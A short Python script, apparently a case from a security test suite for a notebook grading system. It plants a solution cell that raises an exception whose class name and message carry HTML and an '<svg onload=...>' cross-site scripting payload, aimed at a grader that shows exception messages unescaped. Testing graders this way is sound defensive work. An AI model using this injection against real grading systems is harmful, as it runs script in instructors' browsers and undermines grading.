# aim: script in a message of the grader's: an exception says, and is called, what he wants
# pays: shown
# never: <svg onload=@MARKER@
# weak: puts an exception's message into the page as it is
import nbformat

CODE = """
class Broken(Exception):
    pass


Broken.__name__ = "<b>Broken"


def train_step(*_):
    raise Broken("<svg onload=@MARKER@()> [/b] [link=x]")
"""


def attack(folder, release, marker):
    cells = [c for c in release.cells if c.metadata.get("nbgrader", {}).get("solution")]
    cells[2].source = CODE  # not the first task: what is told of that one goes to a terminal too
    nbformat.write(release, folder / "seq2seq.ipynb")
